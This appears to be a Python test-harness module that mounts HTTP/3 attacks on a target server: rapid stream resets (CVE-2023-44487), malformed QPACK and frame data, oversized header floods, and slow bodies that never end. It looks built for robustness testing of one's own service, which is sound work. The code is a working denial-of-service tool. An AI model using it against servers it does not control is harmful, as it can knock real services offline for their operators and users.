"""Attacks over HTTP/3: garbage in frames and QPACK, header sections that are too large, requests
that are reset or never end."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from typing import Final

from aioquic.h3.connection import FrameType

from bench.hostile.http1 import CHAT
from bench.hostile.http2 import integer
from bench.hostile.quic_client import (
    HostileClient,
    QuicAttackResult,
    connected,
    linger,
    reset_frame,
    stop_frame,
    varint,
)
from bench.hostile.target import SOURCE, Findings, Target, certificate_of, crowd

_STREAMS: Final = 40
"""Requests of one connection: fewer than the edge allows to be open."""
_REFUSED: Final = (ConnectionError, TimeoutError, OSError)
_CONTROL, _ENCODER, _DECODER = 2, 6, 10
"""Streams of the client's."""

Streams = list[tuple[int, bytes, bool]]
"""Stream, what is sent on it, and whether it ends."""


def frame(kind: int, payload: bytes = b"") -> bytes:
    """RFC 9114, section 7.1."""
    return varint(kind) + varint(len(payload)) + payload


def section(path: str, *more: tuple[bytes, bytes], method: bytes = b"GET") -> bytes:
    """A HEADERS frame of literals (RFC 9204, section 4.5.6), which may be none that are allowed."""
    pseudo = ((b":method", method), (b":scheme", b"https"), (b":authority", b"edge"))
    fields = (*pseudo, (b":path", path.encode()), *more)
    literals = (
        integer(len(name), 3, 0x20) + name + integer(len(value), 7) + value
        for name, value in fields
    )
    return frame(FrameType.HEADERS, b"\x00\x00" + b"".join(literals))


def _begun_chat(target: Target) -> bytes:
    asked = {"messages": [{"role": "user", "content": "Go on for ever."}], "max_tokens": 400}
    key = (b"authorization", b"Bearer " + target.key.encode())
    head = section(CHAT, (b"content-type", b"application/json"), key, method=b"POST")
    return head + frame(FrameType.DATA, json.dumps(asked).encode())


class Requesting:
    """The attack that opens one connection after the other, four at a time, sends this, and stays
    `wait_s` or until the edge closes."""

    def __init__(
        self,
        what: str,
        streams: Callable[[Target, int], Streams],
        wait_s: float,
        *,
        resets: bool = False,
    ) -> None:
        """`what`: in a sentence. `streams`: of the connection of this number. `resets`: each stream
        is reset in the packet that begins it."""
        self.__doc__ = what
        self._streams = streams
        self._wait_s = wait_s
        self._resets = resets

    async def __call__(self, target: Target, seconds: float, findings: Findings) -> None:
        async def send(number: int) -> None:
            outcome = QuicAttackResult()
            try:
                async with connected(
                    target.address, certificate_of(target), outcome, source=SOURCE, alpn="h3"
                ) as client:
                    await self._send(client, self._streams(target, number))
                    await linger(client, self._wait_s)
                    findings.count("connections")
            except _REFUSED:
                findings.count("connections refused")
            for reason, times in outcome.closed.items():
                findings.count(f"connection ended: {reason}", times)

        await crowd(seconds, send, 4)

    async def _send(self, client: HostileClient, streams: Streams) -> None:
        client.quic.send_stream_data(_CONTROL, b"\x00" + frame(FrameType.SETTINGS))
        for stream_id, data, ends in streams:
            client.quic.send_stream_data(stream_id, data, ends)
        client.transmit()
        if self._resets:
            await client.send(
                part
                for stream_id, data, _ in streams
                for part in (stop_frame(stream_id), reset_frame(stream_id, len(data)))
            )


_BAD_SECTIONS: Final = (
    b"\x00\x00\xbf", b"\x00\x00\x10", b"\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff\xff\x7f",
    b"\x00\x00\x2f\xff\xff\xff", b"", b"\x00\x00" + b"\x51\x00" * 3000,
)  # fmt: skip
_BAD_INSTRUCTIONS: Final = (
    (_ENCODER, b"\x02\x3f\xff\xff\xff\xff\x0f"), (_ENCODER, b"\x02\xc0\x05value"),
    (_DECODER, b"\x03\x80"), (_DECODER, b"\x03" + b"\xff" * 20),
    (_CONTROL, frame(FrameType.DATA, b"x")),
)  # fmt: skip
_BAD_FRAMES: Final = (
    b"\xff", b"\x01\xff\xff\xff\xff\xff\xff\xff\xff", frame(FrameType.DATA, b"x"),
    frame(FrameType.SETTINGS), frame(FrameType.PUSH_PROMISE, b"\x00"), frame(0x21) * 3000,
    section("/x") + b"\x00\x05xx", section("/x") * 2, b"GET / HTTP/1.1\r\n\r\n",
)  # fmt: skip
_LONG: Final = (
    section("/x", *(((b"x", b"y"),) * 3000)),
    section("/x", (b"x", b"y" * 60_000)),
    section("/" + "x" * 40_000),
    frame(FrameType.HEADERS, b"\x00\x00" + b"\xd1" * 16_000),
)


def _garbage(_: Target, number: int) -> Streams:
    chance = random.Random(number)
    headers = [
        frame(FrameType.HEADERS, payload)
        for payload in (chance.randbytes(chance.randrange(1, 300)), chance.choice(_BAD_SECTIONS))
    ]
    request = chance.choice((*headers, chance.choice(_BAD_FRAMES)))
    told = chance.choice(_BAD_INSTRUCTIONS)
    return [(0, request, True)] if number % 3 else [(*told, False), (0, request, True)]


def _slow(target: Target, _: int) -> Streams:
    begun = (_begun_chat(target)[:-1], b"\x01" + varint(500))
    return [(4 * number, begun[number % 2], False) for number in range(_STREAMS)]


rapid_resets = Requesting(
    "Requests of chats that a key allows, each reset as soon as it is sent (CVE-2023-44487).",
    lambda target, _: [(4 * n, _begun_chat(target), not n % 2) for n in range(_STREAMS)],
    0.1,
    resets=True,
)
garbage = Requesting(
    "QPACK of random bytes, references to tables that are empty, integers without an end; frames "
    "of lengths that lie, or that a request must not have.",
    _garbage,
    0.5,
)
header_floods = Requesting(
    "Header sections of thousands of fields, of many kilobytes, and ones that are small on the "
    "wire alone.",
    lambda _, __: [(4 * number, data, True) for number, data in enumerate(_LONG)],
    1.0,
)
slow_bodies = Requesting(
    "Bodies of chats that a key allows, and header sections, that begin and never end.", _slow, 8.0
)
